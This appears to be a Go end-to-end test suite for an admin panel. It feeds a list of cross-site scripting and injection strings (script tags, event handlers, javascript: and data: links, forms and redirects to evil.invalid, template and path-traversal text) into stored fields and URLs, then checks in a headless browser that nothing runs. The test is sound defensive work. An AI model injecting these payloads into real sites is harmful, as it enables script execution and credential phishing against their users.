package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// hostile are texts that would run, load, send or look like something else, if a page took them for
// markup, for an address, for an attribute or for a template. Each fits wherever a name does.
var hostile = []string{
	`<script>pwned("script")</script>`,
	`"><img src=x onerror=pwned("onerror")>`,
	`'><svg onload=pwned("onload")>`,
	`</textarea></title></style></noscript></script><script>pwned("closing tags")</script>`,
	`x" onfocus=pwned("focus") autofocus tabindex=1 x="`,
	`x' onpointerenter='pwned("pointer")`,
	"x` onclick=`pwned('click')",
	`javascript:pwned("address")`,
	`JaVaScRiPt://x/%0apwned("address")`,
	`data:text/html,<script>opener.pwned("data")</script>`,
	`[a link](javascript:pwned("link"))`,
	`![a picture](https://evil.invalid/p.png "x" onerror=pwned("picture"))`,
	`<https://evil.invalid/"onmouseover=pwned("autolink")>`,
	`<a href="javascript:pwned('anchor')">click</a>`,
	`<iframe srcdoc="<script>parent.pwned('frame')</script>"></iframe>`,
	`<form action=https://evil.invalid/><input name=key><button>Sign in`,
	`<base href=https://evil.invalid/><meta http-equiv=refresh content="0;url=https://evil.invalid/">`,
	`<link rel=stylesheet href=https://evil.invalid/s.css><style>*{display:none}</style>`,
	`<div hx-get=https://evil.invalid/ hx-trigger=load hx-on:load="pwned('hx')" hx-on::load="pwned('hx')">x</div>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=pwned("math")>`,
	`{{.}} {{printf "%s" "x"}} ${pwned("template")} <%= pwned("template") %> #{x}`,
	`&lt;script&gt;pwned("twice")&lt;/script&gt; &#60;img src=x onerror=pwned("twice")&#62;`,
	`--><!--><script>pwned("comment")</script>]]>`,
	"invoice\u202egnp.exe \u2066<b>\u2069\u200b\u0301\ufeff end",
	`../../keys?revoke=1#%2e%2e/%00`,
}

// hostileBlocks are such texts for Markdown, on several lines.
var hostileBlocks = []string{
	"```\"><script>pwned('fence')</script>\n<script>pwned('code')</script>\n```",
	"| <script>pwned('cell')</script> | b |\n|---|---|\n| <img src=x onerror=pwned('cell')> | [x](javascript:pwned('cell')) |",
	"# <img src=x onerror=pwned('heading')>\n\n> <svg onload=pwned('quote')>\n\n1. <b onclick=pwned('item')>x</b>\n   - [y](data:text/html,x)",
	"[x][1] ![y][1]\n\n[1]: javascript:pwned('reference')",
	"<details open ontoggle=pwned('details')><summary>x</summary>\n\n**y**\n</details>",
	"**<script>pwned('bold')</script>** _<script>pwned('em')</script>_ `<script>pwned('code')</script>` ~~<script>pwned('del')</script>~~",
	"http://evil.invalid/\"onmouseover=pwned('bare') www.evil.invalid <javascript:pwned('angle')>",
	"a null \u0000 and a line \u2028 separator",
}

// plainJSON is JSON that leaves < and > as they are, as most programs write it.
func plainJSON(t *testing.T, value any) string {
	t.Helper()
	var b bytes.Buffer
	encoder := json.NewEncoder(&b)
	encoder.SetEscapeHTML(false)
	if err := encoder.Encode(value); err != nil {
		t.Fatal(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// asJSON are the texts as they stand in a JSON text.
func asJSON(t *testing.T, texts []string) []string {
	t.Helper()
	var all []string
	for _, text := range texts {
		all = append(all, plainJSON(t, text))
	}
	return all
}

// hostileMessages is a conversation with the texts wherever a message has one.
func hostileMessages() []object {
	var all []object
	for k, text := range append(slices.Clone(hostile), hostileBlocks...) {
		all = append(
			all,
			object{"id": text, "role": []string{"user", "assistant", "system"}[k%3], "content": text, "name": text, "createdAt": text},
			object{"role": "assistant", "content": "", "toolInvocations": []object{{
				"state": text, "toolCallId": text, "toolName": text, "args": object{text: text, "list": []any{text, object{text: 1}}}, "result": text,
			}}},
		)
		if k < 5 {
			all = append(
				all,
				object{"role": text, "content": []object{{"type": "text", "text": text}, {"type": text, "image": text}, {"type": "image", "image": text, "url": text}}},
				object{"role": "assistant", "content": nil, "tool_calls": []object{{"id": text, "type": text, "function": object{"name": text, "arguments": text}}}},
				object{"role": "tool", "tool_call_id": text, "toolName": text, "content": text},
				object{"role": "assistant", "parts": []object{{"type": "tool-invocation", "toolInvocation": object{"toolName": text, "args": text, "result": object{text: text}}}}},
			)
		}
	}
	return all
}

// aHostileTenant has the texts in every place that a page shows. It returns a client with its owner
// key, and the hash of the key that is limited to an agent.
func aHostileTenant(t *testing.T, i *installation, s *server) (*client, string) {
	t.Helper()
	made := i.make("tenant", "create", "--name", hostile[0])
	c := s.with(made.DatabaseIDHash, made.APIKey)
	messages := plainJSON(t, hostileMessages())
	for k, text := range hostile {
		fields := object{"id": text, "agentId": hostile[0], "userName": text, "userEmail": text, "acceptTerms": text}
		switch k {
		case 0:
			fields["messages"] = messages
		case 1:
			fields["messages"] = hostile[0] + hostile[1] // no array
		}
		c.must(t, http.StatusOK, "PUT", "/api/session", fields)
		c.must(t, http.StatusOK, "PUT", "/api/session", object{"id": "of " + strconv.Itoa(k), "agentId": text, "userName": text + "\u0000"})
	}
	key := c.newKey(t, "exec", object{"displayName": hostile[1], "agentId": hostile[4], "allowedOrigins": []string{"https://xn--e1awd7f.example"}})
	for _, text := range hostile {
		if !strings.Contains(text, "\u200b") {
			c.newKey(t, "agent", object{"displayName": text})
		}
	}
	sendAs(t, c, hostile[1]+hostile[4])
	for _, text := range hostile { // the newest entries: a page of them
		c.must(t, http.StatusOK, "PUT", "/api/audit", object{"eventName": text, "recordLocator": text, "diff": text})
		record := plainJSON(t, object{"id": text, text: text})
		c.must(t, http.StatusOK, "PUT", "/api/audit", object{"eventName": "deleteSession", "recordLocator": record, "diff": plainJSON(t, object{text: []string{text}})})
	}
	return c, key.KeyLocatorHash
}

// sendAs writes an audit entry with a program of this name.
func sendAs(t *testing.T, c *client, userAgent string) {
	t.Helper()
	r, err := http.NewRequest(http.MethodPut, c.base+"/api/audit", strings.NewReader(`{"eventName":"named","recordLocator":"{}","diff":""}`))
	if err != nil {
		t.Fatal(err)
	}
	for name, value := range map[string]string{"User-Agent": userAgent, "Authorization": "Bearer " + c.key, "database-id-hash": c.hash} {
		r.Header.Set(name, value)
	}
	answer, err := c.http.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()
	if answer.StatusCode != http.StatusOK {
		t.Fatalf("an audit entry of %q: status %d", userAgent, answer.StatusCode)
	}
}

// markup lists what no page of ours has, and what texts that were taken for markup would become.
const markup = `(() => {
	const found = [], own = address => new URL(address, location.href).origin === location.origin
	const say = (what, e) => found.push(what + " " + e.outerHTML.slice(0, 200))
	const forbidden = "iframe, frame, object, embed, applet, base, style, math, video, audio, portal, marquee, meta[http-equiv], template"
	for (const e of document.querySelectorAll("*")) {
		if (e.matches(forbidden)) say("element", e)
		if (e.matches("script") && !e.getAttribute("src")?.startsWith("/static/")) say("script", e)
		for (const {name, value} of e.attributes) {
			if (/^(on|data-on)/i.test(name) || /hx-on|hx-vals|hx-vars/i.test(name) || name === "style" || name === "srcdoc") say("attribute " + name + " of", e)
			if (/^(data-)?hx-(get|post|put|delete|patch)$/i.test(name) && !own(value)) say("attribute " + name + " of", e)
			if (["src", "action", "formaction", "poster", "background", "srcset", "data", "xlink:href"].includes(name) && !own(value)) say("address of", e)
			if (name === "href" && !["http:", "https:", "mailto:"].includes(new URL(value, location.href).protocol)) say("link", e)
			if (name === "href" && e.matches("link") && !own(value)) say("link", e)
		}
	}
	return found
})()`

// readOnPage is everything that a person reads on the page, with what stands in its fields, and with white
// space as one blank.
const readOnPage = `[document.body.textContent, ...[...document.querySelectorAll("input, textarea, option")].map(e => e.value)].join("\n")`

func blanks(s string) string { return strings.Join(strings.Fields(s), " ") }

// shows visits a page with hostile texts, looks behind everything that unfolds, and expects that it
// shows these texts as they are.
func (p *panel) shows(path string, status int, texts ...string) {
	p.t.Helper()
	if got := p.open(p.base + path); got != status {
		p.t.Errorf("%s: status %d, want %d", path, got, status)
	}
	p.harmless(path)
	p.expectRead(texts...)
}

// expectRead expects that people can read the texts on the page, as they are.
func (p *panel) expectRead(texts ...string) {
	p.t.Helper()
	read := blanks(answer(p.chrome, "text", chromedp.Evaluate[string](readOnPage)))
	for _, text := range texts {
		if !strings.Contains(read, blanks(text)) {
			p.t.Errorf("%s does not show %q as it is", p.location(), text)
		}
	}
}

// harmless expects that nothing on the page has run or would run.
func (p *panel) harmless(what string) {
	p.t.Helper()
	const unfoldAll = `for (const e of document.querySelectorAll("details")) e.open = true
		for (const e of document.querySelectorAll("main *")) for (const name of ["mouseover", "pointerenter", "focus", "toggle"]) e.dispatchEvent(new Event(name))`
	p.do("unfold", chromedp.Evaluate[chromedp.Void](unfoldAll))
	if found := answer(p.chrome, "markup", chromedp.Evaluate[[]string](markup)); len(found) > 0 {
		p.t.Errorf("%s has\n%s", what, strings.Join(found, "\n"))
	}
	if sang := p.pwned(); len(sang) > 0 {
		p.t.Fatalf("%s runs %q\n%s", what, sang, p.html())
	}
	if title := answer(p.chrome, "is ours", chromedp.Title()); title == "" || p.location() == "about:blank" {
		p.t.Errorf("%s is not there any more: %q at %s", what, title, p.location())
	}
}

// Whatever stands in a name, in a message, in an audit entry or in an address, on every page of the
// panel it is text: nothing of it runs, loads or looks like a part of the page. That holds without the
// policy which forbids scripts as well, and with it the browser has nothing to complain of.
func TestAdminShowsHostileTexts(t *testing.T) {
	i := newInstallation(t)
	s := i.start()
	c, key := aHostileTenant(t, i, s)
	window := newChrome(t)
	for policy, victim := range map[bool]string{true: hostile[20], false: hostile[21]} {
		t.Run(fmt.Sprint("policy ", policy), func(t *testing.T) {
			p := newPanel(t, window.other(), s.base)
			p.watch(policy)
			p.signIn(c.key)
			tourHostile(p, key)
			p.doHostile(victim)
			for _, found := range p.complaintsOfPages() {
				if !strings.Contains(found, "does not conform to the required format") { // which no date can be hostile in
					t.Errorf("in the browser: %s", found)
				}
			}
		})
	}
}

func tourHostile(p *panel, key string) {
	p.t.Helper()
	q := url.QueryEscape
	p.shows("/admin/sessions?agent="+q(hostile[0]), http.StatusOK, hostile...)
	p.shows("/admin/sessions?agent="+q(hostile[1])+"&q="+q(hostile[0]), http.StatusOK, hostile[0], hostile[1])
	for _, k := range []int{0, 1, 7, len(hostile) - 1} {
		at := "/admin/sessions/" + url.PathEscape(hostile[k])
		p.shows(at+"?back="+q(`javascript:pwned("back")`), http.StatusOK, hostile[k], hostile[0])
		p.allMessages()
		p.harmless(at + " to its end")
	}
	inJSON := "/admin/sessions/" + url.PathEscape(hostile[0]) + "?view=json"
	p.shows(inJSON, http.StatusOK, hostile[0])
	p.allMessages()
	p.harmless(inJSON)
	p.expectRead(asJSON(p.t, append(slices.Clone(hostile), hostileBlocks...))...)
	month := time.Now().UTC().Format("2006-01")
	p.shows("/admin/audit?month="+month, http.StatusOK, hostile[3:]...) // what was done meanwhile comes before them
	p.shows("/admin/audit?month="+month+"&event="+q(hostile[2])+"&record="+q(hostile[2]), http.StatusOK, hostile[2])
	p.shows("/admin/audit?month="+month+"&event=named", http.StatusOK, hostile[1]+hostile[4])
	p.shows("/admin/usage", http.StatusOK, hostile[0])
	p.shows("/admin/usage?days=90&agent="+q(hostile[3]), http.StatusOK, hostile[3])
	p.shows("/admin/keys", http.StatusOK, hostile[:20]...)
	p.shows("/admin/keys/"+key, http.StatusOK, hostile[1], hostile[4])
	p.shows("/admin/keys/"+key+"?revoke=1", http.StatusOK, hostile[1])
	p.reflects(q(`'"></title></textarea><script>pwned("address")</script><img src=x onerror=pwned("address")>{{.}}`))
	p.reflects(q(`javascript:pwned("address")`))
}

// doHostile searches for, deletes and makes what is called so.
func (p *panel) doHostile(victim string) {
	p.t.Helper()
	q := url.QueryEscape
	p.visit("/admin/sessions?agent=" + q(hostile[0]))
	p.fill(searchField, hostile[9])
	p.expectRows("found as one types", hostile[9])
	p.harmless("the list, put into the page")
	p.fill(searchField, hostile[4]+hostile[5])
	p.expectRows("nothing found as one types")
	p.harmless("no list, put into the page")

	p.visit("/admin/sessions?agent=" + q(hostile[0]))
	want := p.rows()
	p.click(allBoxes)
	p.send(deleteSelected)
	p.harmless("the question")
	p.expectRead(want...)
	p.visit("/admin/sessions/" + url.PathEscape(victim))
	p.send(deleteOne)
	p.send(reallyDelete)
	p.harmless("the answer")
	p.expectRead(victim)
	p.send(entryLink)
	p.harmless("the audit entry")
	p.expectRead(victim)

	p.newKeyOf(hostile[4], "exec", "agent", hostile[0])
	p.harmless("the new key")
	p.expectRead(hostile[4], strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(plainJSON(p.t, hostile[0])))
	p.visit("/admin/keys")
	p.unfold(newKey)
	for _, name := range []string{"name", "origins", "agent"} {
		p.fill(keyForm+`[name="`+name+`"]`, hostile[3])
	}
	p.click(keyForm + `input[name="role"][value="exec"]`)
	p.follow(makeKey)
	p.harmless("the form with a mistake")
	p.expectRead(hostile[3])
}

// reflects visits pages with the text in every field of their addresses.
func (p *panel) reflects(text string) {
	p.t.Helper()
	for _, path := range []string{
		"/admin/sessions?agent=%[1]s&q=%[1]s&sort=%[1]s&reverse=%[1]s&state=%[1]s&from=%[1]s&to=%[1]s&page=%[1]s",
		"/admin/audit?month=%[1]s&event=%[1]s&record=%[1]s&page=%[1]s", "/admin/usage?days=%[1]s&agent=%[1]s",
		"/admin/sessions/%[1]s-gone?from=%[1]s&view=%[1]s&back=%[1]s", "/admin/keys/%[1]s", "/admin/login?next=%[1]s&done=%[1]s",
	} {
		path = fmt.Sprintf(path, text)
		if status := p.open(p.base + path); status >= http.StatusInternalServerError {
			p.t.Errorf("%s: status %d", path, status)
		}
		p.harmless(path)
	}
}

// A page in which texts have become markup, or hide where the focus is, is found out.
func TestMarkupIsFound(t *testing.T) {
	const page = `<!doctype html><html lang="en"><link rel="icon" href="data:,"><title>Test</title><a id="plain" href="/x" style="outline:none">x</a>
<iframe></iframe><script></script><b onclick="x">x</b><i style="color:red">x</i><form action="https://evil.invalid/"></form><a href="javascript:x">x</a><div hx-get="https://evil.invalid/">x</div></html>`
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, page)
	}))
	defer server.Close()
	c := newChrome(t)
	c.open(server.URL)
	found := strings.Join(answer(c, "markup", chromedp.Evaluate[[]string](markup)), "\n")
	for _, want := range []string{"element <iframe", "script <script", "attribute onclick", "attribute style", "address of <form", "link <a href=\"javascript", "attribute hx-get"} {
		if !strings.Contains(found, want) {
			t.Errorf("not found: %s, only\n%s", want, found)
		}
	}
	c.tabTo("#plain")
	if hidden := answer(c, "outline", chromedp.Evaluate[string](outline)); !strings.HasPrefix(hidden, "no outline") {
		t.Errorf("a stop without an outline is taken for %q", hidden)
	}
}
